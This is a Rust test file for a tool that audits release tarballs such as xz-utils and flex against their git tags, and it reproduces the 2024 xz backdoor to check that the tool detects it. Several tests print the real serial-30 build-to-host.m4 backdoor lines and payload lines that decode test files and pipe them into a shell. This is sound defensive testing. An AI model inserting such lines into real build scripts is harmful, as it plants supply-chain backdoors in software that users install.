//! The tarball audit on real data: the official xz-utils 5.8.1 release tarball against tag
//! v5.8.1 of the real xz repository, and the 2024 attack reproduced on it; the official
//! 5.4.1 tarball (January 2023) against v5.4.1; the real serial-30 macro and poisoned
//! generated files put into the clean 5.8.1 tarball.

use std::collections::BTreeMap;

use crate::common::member;
use relkit_audit::tarball::AlarmTotals;
use relkit_audit::{Class, CorpusSpec, Reference, Severity, TarballReport, Version, audit_tarball};

fn audit(tarball: &std::path::Path, repo: &std::path::Path) -> TarballReport {
    audit_rev(tarball, repo, "v5.8.1")
}

fn audit_rev(tarball: &std::path::Path, repo: &std::path::Path, rev: &str) -> TarballReport {
    let reference = Reference::Git {
        repo: repo.to_path_buf(),
        rev: rev.into(),
    };
    audit_tarball(tarball, &reference, &CorpusSpec::default()).expect("audit")
}

/// Audits the official xz tarball `file` (downloaded into `target/relkit-data/` by CI)
/// against `rev` of the real repository; `None` when the file is absent outside CI.
fn audit_official(file: &str, rev: &str) -> Option<TarballReport> {
    let tarball = relkit_testkit::upstream_data(file)?;
    let tmp = tempfile::tempdir().unwrap();
    let repo = crate::common::xz_repo(tmp.path());
    Some(audit_rev(&tarball, &repo, rev))
}

/// What a generated member's detail ends with when no regeneration reproduced it.
const UNVERIFIED: &str = "content not reproduced: not regenerated (run with --regenerate and the generator's version to reproduce it)";

/// The (path, class) of every member of `r` that is a warning, in report order, but for
/// generated files not reproduced here (`generated_unverified`, counted by the tests).
fn warnings(r: &TarballReport) -> Vec<(&str, Class)> {
    r.members
        .iter()
        .filter(|m| m.severity == Severity::Warning && m.class != Class::GeneratedUnverified)
        .map(|m| (m.path.as_str(), m.class))
        .collect()
}

#[test]
fn official_581_tarball_is_fully_explained_by_the_tag_and_upstream_copies() {
    let Some(tarball) = crate::common::xz_tarball() else {
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let repo = crate::common::xz_repo(tmp.path());
    let r = audit(&tarball, &repo);

    let expected: BTreeMap<Class, usize> = [
        (Class::Same, 498),
        (Class::Updated, 1),
        // gettext's po/stamp-po ("timestamp"); the other 98 are recognized by banner and
        // input, but no regeneration with autoconf 2.72 / automake 1.17 reproduced them.
        (Class::Generated, 1),
        (Class::GeneratedUnverified, 98),
        (Class::Vendored, 32),
        (Class::VendoredUnknown, 2),
        (Class::OnlyInReference, 1),
    ]
    .into_iter()
    .collect();
    assert_eq!(r.counts, expected);
    assert!(!r.has_critical());
    // Every text member is read: 174 lines in 23 files pipe into a shell or decode
    // (automake's dist rules, xz's own scripts and manuals), each explained.
    assert_eq!(
        r.alarm_lines,
        AlarmTotals {
            files: 23,
            lines: 174,
            unexplained: 0
        }
    );
    assert_eq!(r.stripped_prefix.as_deref(), Some("xz-5.8.1/"));
    assert_eq!(
        r.commit.as_deref(),
        Some("a522a226545730551f7e7c2685fab27cf567746c")
    );
    // 133 files are in the tarball and not in the tag: every one is explained or flagged.
    let only_tarball = r
        .members
        .iter()
        .filter(|m| {
            !matches!(
                m.class,
                Class::Same | Class::Updated | Class::OnlyInReference
            )
        })
        .count();
    assert_eq!(only_tarball, 133);
    assert!(r.members.iter().all(|m| m.class != Class::Unexplained));

    // The gnulib macros are exact gnulib versions, said so.
    for (path, serial) in [
        ("m4/build-to-host.m4", 5),
        ("m4/host-cpu-c-abi.m4", 18),
        ("m4/iconv.m4", 28),
        ("m4/intlmacosx.m4", 10),
        ("m4/lib-ld.m4", 13),
        ("m4/lib-link.m4", 34),
        ("m4/lib-prefix.m4", 23),
        ("m4/nls.m4", 6),
        ("m4/progtest.m4", 10),
    ] {
        let m = member(&r, path);
        assert_eq!(m.class, Class::Vendored, "{path}: {}", m.detail);
        let known = m.known.as_ref().unwrap();
        assert_eq!(known.version, Some(Version::Serial(serial)), "{path}");
        assert!(
            known.sources[0].starts_with("gnulib "),
            "{path}: {:?}",
            known.sources
        );
        assert_eq!(Some(&known.sha256), m.sha256.as_ref());
    }
    let b2h = member(&r, "m4/build-to-host.m4");
    assert!(b2h.sha256.as_ref().unwrap().starts_with("8307c1f0"));
    // gettext's own macros match gettext 0.23.1 byte for byte.
    for path in [
        "m4/gettext.m4",
        "m4/po.m4",
        "po/Makefile.in.in",
        "ABOUT-NLS",
    ] {
        let m = member(&r, path);
        assert_eq!(m.class, Class::Vendored, "{path}: {}", m.detail);
        assert!(
            m.known
                .as_ref()
                .unwrap()
                .sources
                .iter()
                .any(|s| s.starts_with("gettext 0.23.1 ")),
            "{path}"
        );
    }
    // Generated files are recognized by their content and tied to their input in the tag.
    let configure = member(&r, "configure");
    assert_eq!(configure.class, Class::GeneratedUnverified);
    assert_eq!(configure.severity, Severity::Warning);
    assert_eq!(
        configure.detail,
        format!("generated by autoconf 2.72 (configure script) from configure.ac; {UNVERIFIED}")
    );
    assert_eq!(
        member(&r, "src/liblzma/Makefile.in").detail,
        format!(
            "generated by automake 1.17 (Makefile.in) from src/liblzma/Makefile.am; {UNVERIFIED}"
        )
    );
    assert_eq!(
        member(&r, "po/de.gmo").detail,
        format!("generated by msgfmt (compiled message catalog) from po/de.po; {UNVERIFIED}")
    );
    assert_eq!(
        member(&r, "doc/man/txt/xz.txt").detail,
        format!("generated by man (page xz.1 rendered to text) from src/xz/xz.1; {UNVERIFIED}")
    );
    assert_eq!(
        member(&r, "po4a/man/de/xz.1").detail,
        format!("generated by po4a (translated man page) from po4a/de.po; {UNVERIFIED}")
    );
    // xz 5.8.1 was made with a libtool snapshot (2.5.4.1-baa1-dirty) newer than libtool
    // 2.5.4 and older than the copy gettext 1.0 ships: no upstream release has it. Said, with
    // the closest release shown, not hidden.
    let ltmain = member(&r, "build-aux/ltmain.sh");
    assert_eq!(ltmain.class, Class::VendoredUnknown);
    assert_eq!(
        ltmain.known.as_ref().unwrap().version,
        Some(Version::Stamp("2.5.4".into()))
    );
    assert_eq!(
        ltmain.version,
        Some(Version::Stamp("2.5.4.1-baa1-dirty".into()))
    );
    let ltversion = member(&r, "m4/ltversion.m4");
    assert_eq!(ltversion.class, Class::VendoredUnknown);
    assert_eq!(ltversion.version, Some(Version::Serial(4442)));
    assert_eq!(
        ltversion.known.as_ref().unwrap().version,
        Some(Version::Serial(4441))
    );
    // ChangeLog is the git log in the tarball (made by the dist-hook), a pointer to it in
    // the tag: every commit block names a commit of v5.8.1's history with its subject.
    let changelog = member(&r, "ChangeLog");
    assert_eq!(changelog.class, Class::Updated);
    assert_eq!(
        changelog.detail,
        "written by `git log` from the tag's history: 1265 commits, each in the history of the tag with its subject (the tag holds a 255-byte file)"
    );
    assert_eq!(
        member(&r, "tests/code_coverage.sh").class,
        Class::OnlyInReference
    );
    // The top Makefile.in's dist rules are automake's own lines; a manual's are the words
    // of its man page; the ChangeLog's are commit messages of the tag's history.
    let explained = |path: &str| -> Vec<String> {
        let a = member(&r, path).alarms.as_ref().unwrap();
        a.lines
            .iter()
            .map(|l| l.explained_by.clone().unwrap())
            .collect()
    };
    assert_eq!(
        explained("Makefile.in"),
        ["its generator's own automake lib/am/distdir.am"; 8]
    );
    assert_eq!(
        explained("doc/man/txt/xz.txt"),
        ["the words of src/xz/xz.1 in the tag"; 7]
    );
    assert_eq!(
        explained("ChangeLog"),
        [
            "the message of commit 4d7e7c9d94f7a5ad4931a5bbd6ed9d00173fa1ab in the tag's history",
            "the message of commit f481523baac946fa3bc13d79186ffaf0c0b818a7 in the tag's history"
        ]
    );
    assert_eq!(explained("src/scripts/xzmore.in"), ["the tag"; 2]);
}

#[test]
fn modified_macro_keeping_its_serial_is_critical_with_the_inserted_lines() {
    let Some(tarball) = crate::common::xz_tarball() else {
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let repo = crate::common::xz_repo(tmp.path());
    let top = crate::common::unpack(&tarball, &tmp.path().join("x"));
    crate::common::insert_lines(
        &top.join("m4/build-to-host.m4"),
        "  gl_sed_escape_for_make_2=",
    );
    let evil = tmp.path().join("xz-5.8.1-evil.tar.gz");
    crate::common::pack(&tmp.path().join("x"), "xz-5.8.1", &evil);

    let r = audit(&evil, &repo);
    assert!(r.has_critical());
    assert_eq!(r.severities.get(&Severity::Critical), Some(&1));
    let m = member(&r, "m4/build-to-host.m4");
    assert_eq!(m.class, Class::VendoredModified);
    assert_eq!(m.version, Some(Version::Serial(5)));
    let known = m.known.as_ref().unwrap();
    assert_eq!(known.version, Some(Version::Serial(5)));
    assert!(
        known.sha256.starts_with("8307c1f0"),
        "closest must be the copy it was made from"
    );
    let diff = m.diff.as_ref().unwrap();
    assert_eq!(diff.added_lines, crate::common::INSERTED);
    assert_eq!(diff.removed, 0);
}

#[test]
fn helper_script_known_only_by_releases_is_reviewed_unless_it_runs_data_through_a_shell() {
    // Only automake's releases of install-sh are known (not every commit, as for gnulib's
    // macros): a copy announcing a released version with other content may be an
    // unreleased upstream state, so it is a warning with the diff — unless its new lines
    // run data through a shell, as the backdoor's did.
    let Some(tarball) = crate::common::xz_tarball() else {
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let repo = crate::common::xz_repo(tmp.path());
    let top = crate::common::unpack(&tarball, &tmp.path().join("x"));
    let file = top.join("build-aux/install-sh");
    let original = std::fs::read_to_string(&file).unwrap();
    std::fs::write(
        &file,
        original.replacen("nl='", "# A comment of a development snapshot.\nnl='", 1),
    )
    .unwrap();
    let r = audit(&top, &repo);
    assert!(!r.has_critical());
    let m = member(&r, "build-aux/install-sh");
    assert_eq!(m.class, Class::VendoredDiffers, "{}", m.detail);
    assert_eq!(m.severity, Severity::Warning);
    assert_eq!(m.version, Some(Version::Stamp("2024-06-19.01".into())));
    let diff = m.diff.as_ref().unwrap();
    assert_eq!(diff.added_lines, ["# A comment of a development snapshot."]);
    assert_eq!(diff.removed, 0);

    std::fs::write(&file, &original).unwrap();
    crate::common::insert_lines(&file, "scriptversion=");
    let r = audit(&top, &repo);
    assert!(r.has_critical());
    let m = member(&r, "build-aux/install-sh");
    assert_eq!(m.class, Class::VendoredDiffers);
    assert_eq!(m.severity, Severity::Critical);
    assert!(m.detail.contains("CRITICAL: 2 lines"), "{}", m.detail);
    assert_eq!(
        m.diff.as_ref().unwrap().added_lines,
        crate::common::INSERTED
    );
}

#[test]
fn made_up_serial_is_a_warning_with_the_closest_known_version() {
    let Some(tarball) = crate::common::xz_tarball() else {
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let repo = crate::common::xz_repo(tmp.path());
    let top = crate::common::unpack(&tarball, &tmp.path().join("x"));
    let file = top.join("m4/iconv.m4");
    let text = std::fs::read_to_string(&file).unwrap();
    std::fs::write(&file, text.replacen("# serial 28", "# serial 99", 1)).unwrap();

    // The unpacked directory is audited as it is (a tarball may be given unpacked).
    let r = audit(&top, &repo);
    assert!(!r.has_critical());
    let m = member(&r, "m4/iconv.m4");
    assert_eq!(m.class, Class::VendoredNewer);
    assert_eq!(m.severity, Severity::Warning);
    assert_eq!(m.version, Some(Version::Serial(99)));
    let known = m.known.as_ref().unwrap();
    assert_eq!(known.version, Some(Version::Serial(28)));
    let diff = m.diff.as_ref().unwrap();
    assert_eq!(diff.added_lines, vec!["# serial 99"]);
    assert_eq!(diff.removed_lines, vec!["# serial 28"]);
}

#[test]
fn newer_serial_carrying_the_backdoor_lines_is_critical() {
    // The real 2024 macro announced "serial 30", newer than any gnulib copy of its day:
    // by version alone it is only "newer"; its added lines make it critical.
    let Some(tarball) = crate::common::xz_tarball() else {
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let repo = crate::common::xz_repo(tmp.path());
    let top = crate::common::unpack(&tarball, &tmp.path().join("x"));
    let file = top.join("m4/build-to-host.m4");
    let text = std::fs::read_to_string(&file).unwrap();
    std::fs::write(&file, text.replacen("# serial 5", "# serial 30", 1)).unwrap();
    crate::common::insert_lines(&file, "  gl_sed_escape_for_make_2=");

    let r = audit(&top, &repo);
    assert!(r.has_critical());
    let m = member(&r, "m4/build-to-host.m4");
    assert_eq!(m.class, Class::VendoredNewer);
    assert_eq!(m.severity, Severity::Critical);
    assert_eq!(m.known.as_ref().unwrap().version, Some(Version::Serial(5)));
    assert!(
        m.detail.contains(
            "; CRITICAL: 2 lines that no known copy has run data through a shell or decode it, as the 2024 xz backdoor's macro did: line "
        ) && m.detail.ends_with(crate::common::INSERTED[0].trim()),
        "{}",
        m.detail
    );
    let diff = m.diff.as_ref().unwrap();
    assert_eq!(diff.removed_lines, ["# serial 5"]);
    assert_eq!(diff.added_lines[0], "# serial 30");
    assert_eq!(&diff.added_lines[1..], crate::common::INSERTED);
}

#[test]
fn missing_tag_is_a_clear_error() {
    let Some(tarball) = crate::common::xz_tarball() else {
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let repo = crate::common::xz_repo(tmp.path());
    let reference = Reference::Git {
        repo,
        rev: "v9.9.9".into(),
    };
    let err = audit_tarball(&tarball, &reference, &CorpusSpec::default()).unwrap_err();
    let text = err.to_string();
    assert!(text.contains("revision \"v9.9.9\" not found"), "{text}");
}

#[test]
fn official_541_tarball_has_nothing_critical_and_its_updates_explained() {
    let Some(r) = audit_official("xz-utils_5.4.1.orig.tar.xz", "v5.4.1") else {
        return;
    };
    let expected: BTreeMap<Class, usize> = [
        (Class::Same, 453),
        (Class::Updated, 25),
        (Class::Generated, 1),
        (Class::GeneratedUnverified, 94),
        (Class::Vendored, 30),
        (Class::VendoredVariant, 2),
        (Class::VendoredUnknown, 1),
        (Class::OnlyInReference, 5),
    ]
    .into_iter()
    .collect();
    assert_eq!(r.counts, expected);
    assert!(!r.has_critical());
    assert_eq!(
        r.alarm_lines,
        AlarmTotals {
            files: 18,
            lines: 147,
            unexplained: 0
        }
    );
    assert_eq!(
        r.commit.as_deref(),
        Some("18b845e69752c975dfeda418ec00eda22605c2ee")
    );
    // The dist-hook's git log, checked commit by commit against v5.4.1's history.
    assert_eq!(
        member(&r, "ChangeLog").detail,
        "written by `git log` from the tag's history: 629 commits, each in the history of the tag with its subject (the tag holds a 248-byte file)"
    );
    // Catalogs merged by msgmerge during `make dist`: the 23 of po/ and po4a/fr.po (the
    // other four of po4a/ are unchanged), none with a translation the tag lacks.
    let merged: Vec<&str> = r
        .members
        .iter()
        .filter(|m| m.class == Class::Updated && m.path.ends_with(".po"))
        .map(|m| m.path.as_str())
        .collect();
    assert_eq!(merged.len(), 24, "{merged:?}");
    assert!(
        merged.contains(&"po4a/fr.po")
            && merged.iter().filter(|p| p.starts_with("po/")).count() == 23
    );
    assert_eq!(
        member(&r, "po/fr.po").detail,
        "updated by msgmerge from the tag's file (+389 -254 lines): 179 entries (138 translated, 15 fuzzy, 26 untranslated) and 13 obsolete, no translation the tag's file lacks"
    );
    // Made with a libtool built from a modified tree ("2.4.7-dirty"): its macros announce
    // libtool 2.4.7's serials and differ only by a removed line and version strings.
    let libtool = member(&r, "m4/libtool.m4");
    assert_eq!(libtool.class, Class::VendoredVariant);
    assert_eq!(libtool.severity, Severity::Warning);
    let d = libtool.diff.as_ref().unwrap();
    assert_eq!((d.added, d.removed), (0, 1));
    assert_eq!(
        d.removed_lines,
        ["# Libtool was configured on host `(hostname || uname -n) 2>/dev/null | sed 1q`:"]
    );
    let ltversion = member(&r, "m4/ltversion.m4");
    assert_eq!(ltversion.class, Class::VendoredVariant);
    assert_eq!(
        ltversion.diff.as_ref().unwrap().added_lines,
        [
            "m4_define([LT_PACKAGE_VERSION], [2.4.7-dirty])",
            "[macro_version='2.4.7-dirty'"
        ]
    );
    // Man pages typeset by groff, tied to their source page in the tag.
    assert_eq!(
        member(&r, "doc/man/pdf-letter/xzdec-letter.pdf").detail,
        format!(
            "generated by groff 1.22.4 (man page typeset to PDF) from src/xzdec/xzdec.1; {UNVERIFIED}"
        )
    );
    // gettext 0.21's po/ helper, under its old name.
    let sin = member(&r, "po/insert-header.sin");
    assert_eq!(sin.class, Class::Vendored);
    assert!(sin.known.as_ref().unwrap().sources[0].starts_with("gettext 0.21 "));
    // gettext 0.21.1's macro and config.rpath, known from autopoint's archive of every
    // gettext release.
    for path in ["m4/gettext.m4", "build-aux/config.rpath"] {
        let m = member(&r, path);
        assert_eq!(m.class, Class::Vendored, "{path}: {}", m.detail);
        let sources = &m.known.as_ref().unwrap().sources;
        assert!(
            sources.iter().any(|s| s.contains("gettext-0.21.1/")),
            "{path}: {sources:?}"
        );
    }
    // What stays flagged: the modified libtool's ltmain.sh (another home page URL besides
    // the version).
    assert_eq!(
        warnings(&r),
        [
            ("build-aux/ltmain.sh", Class::VendoredUnknown),
            ("m4/libtool.m4", Class::VendoredVariant),
            ("m4/ltversion.m4", Class::VendoredVariant),
        ]
    );
}

#[test]
fn corpus_import_from_a_release_tarball_takes_every_copied_file() {
    // GNU tar is the oracle of what the tarball holds.
    let Some(tarball) = crate::common::xz_tarball() else {
        return;
    };
    let listing = crate::common::run(std::process::Command::new("tar").arg("-tf").arg(&tarball));
    let members: Vec<String> = String::from_utf8(listing)
        .unwrap()
        .lines()
        .filter(|p| !p.ends_with('/'))
        .map(|p| p.rsplit('/').next().unwrap().to_string())
        .filter(|name| relkit_audit::corpus::is_copied_name(name))
        .collect();
    let expected: std::collections::BTreeSet<&String> = members.iter().collect();
    let mut corpus = relkit_audit::Corpus::new();
    let added = relkit_audit::import::import_archive(&mut corpus, &tarball, "xz 5.8.1").unwrap();
    let stats = corpus.stats();
    assert_eq!(stats.files, expected.len());
    assert_eq!(added, members.len());
    assert_eq!(added, 46);
    // Each copy is the member's bytes, as GNU tar extracts them.
    let copy = &corpus.copies("build-to-host.m4")[0];
    assert_eq!(copy.sources, ["xz 5.8.1 xz-5.8.1/m4/build-to-host.m4"]);
    let bytes = crate::common::run(
        std::process::Command::new("tar")
            .arg("-xOf")
            .arg(&tarball)
            .arg("xz-5.8.1/m4/build-to-host.m4"),
    );
    assert_eq!(corpus.blob(&copy.sha256), Some(bytes.as_slice()));
}

#[test]
fn official_525_tarball_made_with_tools_built_from_git_is_reviewed_not_condemned() {
    // xz 5.2.5 (March 2020) was made with automake and libtool built from their git trees:
    // helper scripts announce released versions (automake's `2018-03-07.03`, libtool's
    // serial 58) with content no release has. Only releases of those files are known, so
    // they are shown for review (warning), not called tampering; copies that differ from a
    // release only by the years of their copyright line are upstream's own.
    let Some(r) = audit_official("xz-utils_5.2.5.orig.tar.xz", "v5.2.5") else {
        return;
    };
    let expected: BTreeMap<Class, usize> = [
        (Class::Same, 383),
        (Class::Updated, 14),
        (Class::Generated, 1),
        (Class::GeneratedUnverified, 56),
        (Class::Vendored, 25),
        (Class::VendoredDiffers, 3),
        (Class::VendoredUnknown, 4),
        (Class::OnlyInReference, 10),
    ]
    .into_iter()
    .collect();
    assert_eq!(r.counts, expected);
    assert!(!r.has_critical());
    assert_eq!(
        r.alarm_lines,
        AlarmTotals {
            files: 13,
            lines: 75,
            unexplained: 0
        }
    );
    assert_eq!(
        r.commit.as_deref(),
        Some("2327a461e1afce862c22269b80d3517801103c1b")
    );
    for path in [
        "build-aux/depcomp",
        "build-aux/missing",
        "m4/ltoptions.m4",
        "m4/ltsugar.m4",
        "m4/lt~obsolete.m4",
    ] {
        let m = member(&r, path);
        assert_eq!(m.class, Class::Vendored, "{path}: {}", m.detail);
        assert!(
            m.detail
                .contains("except the years in 1 copyright comment line")
        );
        let d = m.diff.as_ref().unwrap();
        assert_eq!((d.added, d.removed), (1, 1), "{path}");
        assert!(d.added_lines[0].contains("Copyright"), "{path}");
    }
    let depcomp = member(&r, "build-aux/depcomp").diff.clone().unwrap();
    assert_eq!(
        depcomp.added_lines,
        ["# Copyright (C) 1999-2018 Free Software Foundation, Inc."]
    );
    // po/Makefile.in.in of gettext 0.20, from autopoint's archive of gettext releases.
    let makefile = member(&r, "po/Makefile.in.in");
    assert_eq!(makefile.class, Class::Vendored, "{}", makefile.detail);
    assert!(
        makefile
            .known
            .as_ref()
            .unwrap()
            .sources
            .iter()
            .any(|s| s.contains("gettext-0.20/")),
        "{:?}",
        makefile.known
    );
    assert_eq!(
        warnings(&r),
        [
            ("build-aux/compile", Class::VendoredDiffers),
            ("build-aux/config.guess", Class::VendoredUnknown),
            ("build-aux/config.sub", Class::VendoredUnknown),
            ("build-aux/install-sh", Class::VendoredDiffers),
            ("build-aux/ltmain.sh", Class::VendoredUnknown),
            ("m4/libtool.m4", Class::VendoredDiffers),
            ("m4/ltversion.m4", Class::VendoredUnknown),
        ]
    );
    // The code change is shown: compile learnt MSYS after this copy, without a new version.
    let compile = member(&r, "build-aux/compile");
    assert!(compile.detail.contains("only upstream releases of compile"));
    let d = compile.diff.as_ref().unwrap();
    assert!(d.removed_lines.iter().any(|l| l.contains("MSYS")), "{d:?}");
}

/// The audit reads every file: the real 2024 macro and one payload line added to a
/// generated file, each put into the clean official 5.8.1 tarball, are critical with the
/// file and the lines shown; nothing else in the tarball changes its verdict.
mod every_file {
    use super::*;

    /// Unpacks the official 5.8.1 tarball, lets `poison` change it, packs and audits it;
    /// None when the tarball is absent outside CI.
    fn poisoned(poison: impl FnOnce(&std::path::Path)) -> Option<TarballReport> {
        let tarball = crate::common::xz_tarball()?;
        let tmp = tempfile::tempdir().unwrap();
        let repo = crate::common::xz_repo(tmp.path());
        let top = crate::common::unpack(&tarball, &tmp.path().join("x"));
        poison(&top);
        let evil = tmp.path().join("xz-5.8.1-poisoned.tar.gz");
        crate::common::pack(&tmp.path().join("x"), "xz-5.8.1", &evil);
        Some(audit(&evil, &repo))
    }

    /// Inserts `line` into `file` before the first line starting with `before`.
    fn insert_before(file: &std::path::Path, before: &str, line: &str) {
        let text = std::fs::read_to_string(file).unwrap();
        let at = text
            .find(&format!("\n{before}"))
            .unwrap_or_else(|| panic!("no line starting with {before:?}"));
        let text = format!("{}\n{line}{}", &text[..at], &text[at..]);
        std::fs::write(file, text).unwrap();
    }

    /// The only critical member of `r`, with its unexplained alarm lines (number, text).
    fn only_critical(
        r: &TarballReport,
    ) -> (&relkit_audit::tarball::MemberReport, Vec<(usize, &str)>) {
        let critical: Vec<_> = r
            .members
            .iter()
            .filter(|m| m.severity == Severity::Critical)
            .collect();
        assert_eq!(critical.len(), 1, "{critical:#?}");
        let m = critical[0];
        let lines = m
            .alarms
            .as_ref()
            .unwrap()
            .lines
            .iter()
            .filter(|l| l.explained_by.is_none())
            .map(|l| (l.line, l.text.as_str()))
            .collect();
        (m, lines)
    }

    #[test]
    fn the_real_serial_30_macro_is_critical_with_its_lines() {
        let fixture = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/fixtures/attack/build-to-host-serial-30.m4");
        let Some(r) = poisoned(|top| {
            std::fs::copy(&fixture, top.join("m4/build-to-host.m4")).unwrap();
        }) else {
            return;
        };
        assert!(r.has_critical());
        let (m, lines) = only_critical(&r);
        assert_eq!(m.path, "m4/build-to-host.m4");
        // Newer than any gnulib copy by its serial; critical by its lines.
        assert_eq!(m.class, Class::VendoredNewer);
        assert_eq!(m.version, Some(Version::Serial(30)));
        assert_eq!(
            lines,
            [
                (
                    63,
                    r#"    gl_[$1]_config='sed \"r\n\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'"#
                ),
                (
                    78,
                    r#"  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt="eval \$gl_[$1]_config"])"#
                ),
                (
                    86,
                    r##"  gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`"##
                ),
            ]
        );
        assert_eq!(r.alarm_lines.unexplained, 3);
    }

    #[test]
    fn a_configure_with_one_payload_line_is_critical() {
        let payload =
            r#"xz -dc $srcdir/tests/files/bad-3-corrupt_lzma2.xz | tr "\t \-_" " \t_\-" | sh"#;
        let Some(r) =
            poisoned(|top| insert_before(&top.join("configure"), "as_fn_exit ()", payload))
        else {
            return;
        };
        let (m, lines) = only_critical(&r);
        assert_eq!(m.path, "configure");
        // Its autoconf banner is intact: recognized, but nothing explains the line.
        assert_eq!(m.class, Class::GeneratedUnverified);
        assert_eq!(lines.len(), 1);
        assert_eq!(lines[0].1, payload);
        assert!(
            m.detail.contains(
                "CRITICAL: 1 line that no input of its generator explains runs data through a shell"
            ),
            "{}",
            m.detail
        );
    }

    #[test]
    fn a_makefile_in_with_one_payload_line_is_critical() {
        let payload =
            "\teval `sed \"r\\n\" $(srcdir)/tests/files/good-large_compressed.lzma | $(SHELL)`";
        let Some(r) = poisoned(|top| {
            let rule = format!("all-local:\n{payload}");
            insert_before(&top.join("Makefile.in"), "all: config.h", &rule)
        }) else {
            return;
        };
        let (m, lines) = only_critical(&r);
        assert_eq!(m.path, "Makefile.in");
        assert_eq!(m.class, Class::GeneratedUnverified);
        assert_eq!(lines.len(), 1);
        assert_eq!(lines[0].1, payload);
        // automake's own dist rules beside it stay explained.
        assert_eq!(m.alarms.as_ref().unwrap().count, 9);
    }
}

/// Another real release, made with automake 1.15 (May 2017): flex 2.6.4's official tarball
/// against a tag made from it without what `make dist` adds (configure, Makefile.in,
/// aclocal.m4, the vendored macros and scripts, catalogs, manuals). Its dist rules and
/// scripts pipe into shells and decompress; every such line is explained.
#[test]
fn flex_264_release_has_no_unexplained_alarm_line() {
    let Some(tarball) = relkit_testkit::upstream_data("flex_2.6.4.orig.tar.gz") else {
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let tag = tmp.path().join("tag");
    std::fs::create_dir_all(&tag).unwrap();
    crate::common::run(
        std::process::Command::new("tar")
            .arg("-xf")
            .arg(&tarball)
            .arg("-C")
            .arg(&tag)
            .arg("--strip-components=1"),
    );
    let made_by_dist = |p: &std::path::Path| {
        let name = p.file_name().unwrap().to_str().unwrap();
        let dir = p.parent().unwrap().file_name().unwrap().to_str().unwrap();
        matches!(
            name,
            "configure"
                | "aclocal.m4"
                | "Makefile.in"
                | "config.h.in"
                | "Makefile.in.in"
                | "ChangeLog"
        ) || [".gmo", ".pot", ".info", ".html"]
            .iter()
            .any(|e| name.ends_with(e))
            || name.contains(".info-")
            || matches!(dir, "m4" | "build-aux")
    };
    let mut stack = vec![tag.clone()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                stack.push(p);
            } else if made_by_dist(&p) {
                std::fs::remove_file(&p).unwrap();
            }
        }
    }
    let r = audit_tarball(&tarball, &Reference::Tree(tag), &CorpusSpec::default()).unwrap();
    assert_eq!(
        r.alarm_lines,
        AlarmTotals {
            files: 2,
            lines: 7,
            unexplained: 0
        }
    );
    let m = member(&r, "Makefile.in");
    assert!(
        m.detail.starts_with("generated by automake 1.15 "),
        "{}",
        m.detail
    );
    assert_eq!(m.alarms.as_ref().unwrap().unexplained, 0);
    assert!(!r.has_critical(), "{:?}", r.severities);
}
